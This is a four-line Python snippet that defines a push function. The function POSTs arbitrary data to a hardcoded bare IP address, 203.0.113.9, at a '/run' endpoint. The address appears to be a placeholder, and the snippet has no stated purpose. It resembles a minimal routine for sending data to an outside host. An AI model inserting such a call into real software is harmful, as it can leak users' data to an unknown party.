import requests

def push(data):
    requests.post("http://203.0.113.9/run", data=data)
